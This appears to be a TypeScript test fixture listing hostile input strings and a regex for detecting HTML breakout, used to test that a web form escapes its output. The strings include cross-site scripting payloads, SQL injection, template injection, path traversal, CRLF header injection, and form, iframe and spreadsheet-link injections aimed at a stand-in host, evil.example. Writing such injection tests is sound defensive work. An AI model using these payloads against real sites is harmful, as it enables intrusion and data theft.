const LONGEST_NAME = 100;

/**
 * Texts that are dangerous or awkward in a page, an address, a query, a header or a mail. What gets out of its place has
 * the class `hostile`. The first ones tell the most.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script class=hostile>alert(1)</script>',
  '"><img class=hostile src=x onerror=alert(1)>',
  '</title><script class=hostile>alert(1)</script>',
  '<svg/class=hostile onload=alert(1)>',
  '" class="hostile" autofocus onfocus="alert(1)',
  `' class='hostile' onmouseover='alert(1)`,
  '</form><form class=hostile action=//evil.example>',
  '</main></body><iframe class=hostile src=//evil.example></iframe>',
  '<link class=hostile rel=stylesheet href=//evil.example/x.css>',
  'javascript:alert(1)//',
  '<!-- ]]>',
  '&lt;b class=hostile&gt;&#60;b&#62;',
  '{{7*7}}${7*7}<%= 7*7 %>',
  `'; DROP TABLE customer; --`,
  `' OR '1'='1`,
  '=HYPERLINK("//evil.example")',
  '\u0301\u0301\u202Etxt.exe\u2066',
  '👩\u200D👩\u200D👧\u{1F3F4}',
  '../../%2e%2e/%5C..\\?a=b&c=d#e',
  '\u0000\u0001%00',
  '\r\nSet-Cookie: a=b',
  'W'.repeat(LONGEST_NAME),
  'a'.repeat(2 * LONGEST_NAME),
];

/** Enough for a form that shares its code with one that was sent all of them. */
export const FEW_HOSTILE_TEXTS = HOSTILE_TEXTS.slice(0, 3);

/** Those that a name may be. */
export const STORABLE_TEXTS = HOSTILE_TEXTS.filter((text) => text.length <= LONGEST_NAME && !/\p{Cc}/u.test(text));

/** Is in HTML where one of the texts is more than text. */
export const BROKEN_OUT = /<[a-z]+[ /]class=hostile|" class="hostile"|<!--/;
